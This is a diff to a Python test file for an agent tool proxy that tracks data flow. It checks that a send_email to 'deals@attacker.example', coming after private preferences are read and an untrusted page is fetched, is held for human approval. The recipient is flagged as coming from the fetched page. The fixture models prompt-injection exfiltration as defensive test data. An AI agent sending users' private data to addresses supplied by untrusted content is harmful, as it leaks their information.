@@ -30,6 +30,7 @@ PREFS = ("get_user_preferences", {"user_ref": "usr_alice"})
 PAGE = ("fetch_page", {"url": "https://shop.example/offers"})
 SEND = ("send_email", {"to": "deals@attacker.example", "subject": "prefs", "body": "en, email"})
 FLOW_SETTING = "toolproxy/settings/flow"
+PAGE_CALL = "call-page"  # the call id of every fetch_page in read_both: the provenance reason names it
 REPO = Path(__file__).resolve().parent.parent
 
 
@@ -68,7 +69,8 @@ def sent(stack) -> list[str]:
 
 async def read_both(stack, headers) -> None:
     for tool, arguments in (PREFS, PAGE):
-        status, env = await stack.call(tool, arguments, headers=headers)
+        status, env = await stack.call(tool, arguments, headers=headers,
+                                       call_id=PAGE_CALL if tool == PAGE[0] else None)
         assert status == 200 and env["outcome"] == "succeeded", env
 
 
@@ -95,7 +97,8 @@ async def test_json_front_private_then_untrusted_then_external_needs_a_person(st
     status, listing = await stack.admin("GET", "/v1/approvals", approver)
     assert status == 200
     [pending] = [a for a in listing["approvals"] if a["id"] == approval_id]
-    assert pending["reasons"] == ["flow_private_to_external"] and pending["tool"] == "send_email"
+    assert pending["reasons"] == ["flow_private_to_external", "flow_untrusted_target /to from fetch_page call "
+                                 f"{PAGE_CALL}"] and pending["tool"] == "send_email"
     status, body = await stack.admin("POST", f"/v1/approvals/{approval_id}/approve", approver)
     assert status == 200, body
     status, env = await stack.call(*SEND, headers={**run("story"), "X-Approval-Id": approval_id})
@@ -125,9 +128,12 @@ async def test_decision_records_carry_input_flow(stack, proxy_deps):
     assert [(s["label"], s["tool"]) for s in flow["principal"]["seen"]] == \
         [("private", "get_user_preferences"), ("untrusted", "fetch_page")]
     assert flow["run"]["labels"] == ["private", "untrusted"]
-    assert send["input"]["tool"]["flow"] == {"produces": [], "sink": "external"}
+    assert send["input"]["tool"]["flow"] == {"produces": [], "sink": "external", "sink_arguments": ["/to"],
+                                             "trusted_source": False}
     assert send["decision"] == {"result": "require_approval", "allow": False, "require_approval": True,
-                                "reasons": ["flow_private_to_external"], "risk": "external"}
+                                "reasons": ["flow_private_to_external",
+                                            f"flow_untrusted_target /to from fetch_page call {PAGE_CALL}"],
+                                "risk": "external"}
 
 
 async def test_deny_in_opa_data_refuses_and_the_denial_list_names_the_reason(stack, approver, deny_mode):
